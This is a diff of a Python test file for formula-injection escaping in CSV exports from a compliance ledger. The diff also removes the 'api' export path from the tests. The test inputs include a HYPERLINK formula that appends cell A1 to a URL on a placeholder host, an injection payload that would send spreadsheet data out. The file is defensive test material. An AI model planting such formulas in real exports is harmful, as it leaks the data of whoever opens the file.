@@ -22,7 +22,7 @@ from compliance.api import formats
 from compliance.core.ledger import COLUMNS, MORE_COLUMNS
 from compliance.core.ledger.spreadsheet import FORMULA, as_meant
 from compliance.queries.ledger import exported
-from compliance.web.ledger.cap import _plain
+from compliance.web.take import table as taken
 
 
 BEGINS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "'", "''", '"', ",", ";", "\n")
@@ -31,8 +31,7 @@ TEXTS = [
     "=HYPERLINK(\"http://ok.test/?x=\"&A1,\"x\")", "a,b;c\t\"d\"\r\ne", "plain", "3 − 2", "ü⁒",
 ]  # fmt: skip
 WRITERS: dict[str, Callable[[Any], Any]] = {
-    "pages": _plain,
-    "api": formats._cell,
+    "pages": taken._text,
     "desk": lambda text: next(csv.reader(_lines([[text]])))[0],
 }
 
@@ -53,7 +52,7 @@ def test_no_text_of_a_csv_is_a_formula_and_each_comes_back(door: str) -> None:
         assert as_meant(row[0]) == text, (door, text)
 
 
-@pytest.mark.parametrize("door", ["pages", "api"])
+@pytest.mark.parametrize("door", ["pages"])
 def test_numbers_stay_numbers(door: str) -> None:
     for number in (Decimal("-12.5"), Decimal(0), Decimal("67300.000001")):
         assert Decimal(str(WRITERS[door](number))) == number
